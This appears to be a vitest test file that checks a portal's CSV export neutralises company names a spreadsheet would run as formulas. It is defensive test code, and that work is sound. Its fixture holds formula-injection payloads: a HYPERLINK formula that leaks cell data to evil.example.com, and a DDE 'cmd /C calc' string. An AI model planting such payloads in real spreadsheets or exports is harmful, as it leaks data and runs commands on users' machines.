import { adminCompanyList } from '@portal/contract/companies/admin-company-list';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TestClient, type TestContext, createTestContext, newCompany } from '../test/harness.ts';
import { exportRows } from './export.ts';

let t: TestContext;
beforeAll(async () => {
  t = await createTestContext();
});
afterAll(() => t.close());

/** RFC 4180 CSV, as a spreadsheet reads it: quoted cells may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') cell += text[++i];
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n' || (ch === '\r' && text[i + 1] === '\n')) {
      if (ch === '\r') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

const FORMULA_START = /^[=+\-@\t\r]/;
const NAMES = [
  '=HYPERLINK("https://evil.example.com/?leak="&A1,"Open invoice")',
  "+1+cmd|' /C calc'!A0",
  '-2+3 Minus Ltd',
  '@SUM(A1:A9) At Ltd',
  '\t=1+1 Tab Ltd',
  '\r=1+1 Return Ltd',
];

describe('CSV export', () => {
  it('neutralises cells a spreadsheet would run as a formula in the admin company list', async () => {
    for (const company_name of NAMES) await newCompany(t.db, { company_name });
    const staff = await newCompany(t.db, { company_type: 'admin', staff_role: 'admin' });
    const admin = await new TestClient(t.app).useSession(t.db, t.clock, staff.user.id);
    const res = await admin.post(`${adminCompanyList.path}?format=csv`, { target_company_states: ['TRIAL', 'ACTIVE', 'SUSPENDED'] });
    expect(res.headers['content-type']).toContain('text/csv');
    const [header = [], ...rows] = parseCsv(res.body);
    const names = rows.map((r) => r[header.indexOf('company_name')]);
    for (const name of NAMES) expect(names).toContain(`'${name}`);
    expect(rows.flat().filter((c) => FORMULA_START.test(c))).toEqual([]);
  });

  it('neutralises flattened cells too and leaves numbers and plain text alone', async () => {
    const csv = await exportRows([{ id: -5, name: 'Plain Ltd', users: [{ email: '-x@example.com' }], note: 'a = b' }], 'csv');
    expect(parseCsv(csv.toString())).toEqual([
      ['id', 'name', 'users', 'note'],
      ['-5', 'Plain Ltd', "'-x@example.com", 'a = b'],
    ]);
  });

  it('keeps Excel cells as text, as before', async () => {
    const xlsx = await exportRows([{ name: NAMES[0] }], 'xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx as unknown as ArrayBuffer);
    const cell = book.worksheets[0]?.getCell('A2');
    expect(cell?.type).toBe(ExcelJS.ValueType.String);
    expect(cell?.value).toBe(NAMES[0]);
  });
});
